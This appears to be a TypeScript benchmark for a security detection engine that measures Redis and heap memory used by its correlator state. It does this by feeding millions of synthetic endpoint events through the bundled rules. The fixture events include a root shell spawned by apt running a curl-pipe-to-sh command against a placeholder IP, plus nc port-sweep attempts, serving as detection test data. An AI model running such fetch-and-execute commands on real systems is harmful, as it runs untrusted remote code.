/**
 * Correlator state size.
 *
 * - `state-redis`: Redis bytes per pending sequence. The engine with the bundled APT hook rule
 *   and the Redis state store (a real redis-server) takes N hook shells on N hosts that never
 *   complete; `INFO memory` used_memory grows by `bytes_per_pending_sequence` each. Baseline:
 *   the JSON value the store writes per sequence (mean STRLEN of the keys), so `ratio` is
 *   Redis's overhead over the payload.
 * - `state-heap`: correlator heap after 10^6 distinct hosts. 10^6 events, each on a new host
 *   (APT hook shells opening sequences, connection attempts opening port-sweep threshold
 *   groups), through one partition's processor with every bundled rule; state lives in the
 *   store (here a store that keeps nothing, as Redis would hold it out of the heap). Heap used
 *   after 10^5 events is the baseline: `ratio` = heap at 10^6 ÷ heap at 10^5. The state is
 *   bounded (keys per rule and the reorder buffer are capped, evictions counted): the heap
 *   grows until the threshold groups reach their cap (100k per rule) and then stays flat, so
 *   the heap at 5·10^5 and at 10^6 hosts are about equal.
 */
import path from 'node:path';
import {
  DetectionEngine,
  emptySnapshot,
  PartitionProcessor,
  type PartitionSnapshot,
  type StateChanges,
  type StateStore,
  type TermRecord,
} from '@sequent/engine';
import { createLogger, createRedisClient, redisSettings, RedisStateStore } from '@sequent/platform';
import { loadRules } from '@sequent/rules';
import { startRedis } from '@sequent/harness';

const repoRoot = path.resolve(__dirname, '..');
const PENDING = 20_000;
const HOSTS = 1_000_000;
const BATCH = 2_000;
const START = Date.parse('2026-01-15T09:00:00.000Z');

const gc = () => (globalThis as { gc?: () => void }).gc?.();

function aptHookShell(i: number, timeMs: number): Record<string, unknown> {
  const host = `host-${i.toString(36)}`;
  return {
    '@timestamp': new Date(timeMs).toISOString(),
    data_stream: { type: 'logs', dataset: 'endpoint.events.process', namespace: 'default' },
    event: {
      id: `ev-${i}`,
      kind: 'event',
      category: ['process'],
      type: ['start'],
      action: 'exec',
      dataset: 'endpoint.events.process',
    },
    host: { id: host, name: host, os: { type: 'linux' } },
    process: {
      entity_id: `sh-${i}`,
      pid: 4000 + (i % 30000),
      name: 'sh',
      executable: '/usr/bin/dash',
      args: ['sh', '-c', '--', 'curl -s http://198.51.100.7/u | sh'],
      command_line: 'sh -c -- curl -s http://198.51.100.7/u | sh',
      parent: { entity_id: `apt-${i}`, name: 'apt', executable: '/usr/bin/apt' },
    },
    user: { id: '0', name: 'root' },
  };
}

function connectionAttempt(i: number, timeMs: number): Record<string, unknown> {
  const host = `host-${i.toString(36)}`;
  return {
    '@timestamp': new Date(timeMs).toISOString(),
    data_stream: { type: 'logs', dataset: 'endpoint.events.network', namespace: 'default' },
    event: {
      id: `ev-${i}`,
      kind: 'event',
      category: ['network'],
      type: ['start'],
      action: 'connection_attempted',
      dataset: 'endpoint.events.network',
    },
    host: { id: host, name: host, os: { type: 'linux' } },
    process: { entity_id: `nc-${i}`, pid: 5000 + (i % 30000), name: 'nc', executable: '/usr/bin/nc' },
    source: { ip: '10.0.0.5', port: 40000 + (i % 20000) },
    destination: { ip: '45.77.120.33', port: 1 + (i % 1024) },
  };
}

/** State lives outside the heap in production (Redis): this store keeps nothing. */
class DiscardingStore implements StateStore {
  async loadPartition(): Promise<PartitionSnapshot> {
    return emptySnapshot();
  }
  async getTerms(): Promise<Map<string, TermRecord>> {
    return new Map();
  }
  async commit(_partition: string, _changes: StateChanges): Promise<void> {}
  async ackAlerts(): Promise<void> {}
  async dropPartition(): Promise<void> {}
}

function usedMemory(info: string): number {
  const m = /used_memory:(\d+)/.exec(info);
  if (!m) throw new Error('no used_memory in INFO memory');
  return Number(m[1]);
}

async function redisBytesPerSequence(): Promise<object> {
  const { rules } = loadRules([path.join(repoRoot, 'rules', 'apt_hook_shell_spawns_interpreter.toml')]);
  if (rules.length !== 1) throw new Error('the bundled APT hook rule did not load');
  const engine = new DetectionEngine(rules);
  const redis = await startRedis();
  const logger = createLogger({ level: 'error', write: (line) => process.stderr.write(line + '\n') });
  const client = createRedisClient(redisSettings.parse({ url: redis.url }), logger);
  try {
    const store = new RedisStateStore(client, { keyPrefix: 'bench:' });
    const processor = await PartitionProcessor.open(engine, store, { partition: 'bench:0' });
    await client.ping();
    const before = usedMemory(await client.info('memory'));
    // All within one maxspan (5 s of event time), so none expires: every one stays pending.
    for (let i = 0; i < PENDING; i += BATCH) {
      const batch = [];
      for (let j = i; j < Math.min(PENDING, i + BATCH); j++)
        batch.push({ event: aptHookShell(j, START + Math.floor((j / PENDING) * 4_000)), offset: j });
      await processor.processBatch(batch);
    }
    await processor.flush();
    const pending = processor.stateSizes().sequences;
    const after = usedMemory(await client.info('memory'));
    const keys: string[] = [];
    let cursor = '0';
    do {
      const [next, found] = await client.scan(cursor, 'MATCH', 'bench:part:*:seq:*', 'COUNT', 1000);
      cursor = next;
      keys.push(...found);
    } while (cursor !== '0' && keys.length < 1000);
    const sample = keys.slice(0, 1000);
    const lengths = await Promise.all(sample.map((k) => client.strlen(k)));
    const valueBytes = lengths.reduce((a, b) => a + b, 0) / Math.max(1, lengths.length);
    const perSequence = (after - before) / pending;
    return {
      bench: 'state-redis',
      case: 'pending APT hook sequences (one per host) in the Redis state store, bundled rule',
      pending_sequences: pending,
      redis_keys: await client.dbsize(),
      used_memory_delta_bytes: after - before,
      bytes_per_pending_sequence: Math.round(perSequence),
      baseline: 'mean JSON value the store writes per sequence key (STRLEN)',
      baseline_bytes: Math.round(valueBytes),
      ratio: Math.round((perSequence / valueBytes) * 100) / 100,
    };
  } finally {
    client.disconnect();
    await redis.stop();
  }
}

async function heapAfterDistinctHosts(): Promise<object> {
  const { rules } = loadRules([path.join(repoRoot, 'rules')]);
  const engine = new DetectionEngine(rules);
  const processor = await PartitionProcessor.open(engine, new DiscardingStore(), { partition: 'bench:heap' });
  gc();
  const heapStart = process.memoryUsage().heapUsed;
  const heapAt = new Map<number, number>();
  const checkpoints = new Set([HOSTS / 10, HOSTS / 2, HOSTS]);
  let alerts = 0;
  const t0 = performance.now();
  for (let i = 0; i < HOSTS; i += BATCH) {
    const batch = [];
    for (let j = i; j < i + BATCH; j++) {
      // One event per millisecond: 10^6 hosts over ~17 minutes of event time.
      const time = START + j;
      batch.push({ event: j % 2 === 0 ? aptHookShell(j, time) : connectionAttempt(j, time), offset: j });
    }
    alerts += (await processor.processBatch(batch)).alerts.length;
    if (checkpoints.has(i + BATCH)) {
      gc();
      heapAt.set(i + BATCH, process.memoryUsage().heapUsed);
    }
  }
  const seconds = (performance.now() - t0) / 1000;
  const stats = processor.stats();
  const sizes = processor.stateSizes();
  const mib = (b: number) => Math.round((b / 2 ** 20) * 10) / 10;
  const tenth = heapAt.get(HOSTS / 10)!;
  const full = heapAt.get(HOSTS)!;
  return {
    bench: 'state-heap',
    case: '10^6 events on 10^6 distinct hosts (APT hook shells + connection attempts), every bundled rule, one partition',
    hosts: HOSTS,
    rules: engine.runtimes.length,
    max_keys_per_rule: engine.maxKeysPerRule,
    heap_before_mib: mib(heapStart),
    heap_after_1e5_hosts_mib: mib(tenth),
    heap_after_5e5_hosts_mib: mib(heapAt.get(HOSTS / 2)!),
    heap_after_1e6_hosts_mib: mib(full),
    pending_sequences: sizes.sequences,
    threshold_groups: sizes.thresholds,
    buffered_events: sizes.buffered,
    evictions: stats.evictions,
    alerts,
    events_per_s: Math.round(HOSTS / seconds),
    baseline: 'heap used after 10^5 distinct hosts (same run)',
    ratio: Math.round((full / tenth) * 100) / 100,
  };
}

export default async function stateBench(): Promise<object[]> {
  return [await redisBytesPerSequence(), await heapAfterDistinctHosts()];
}
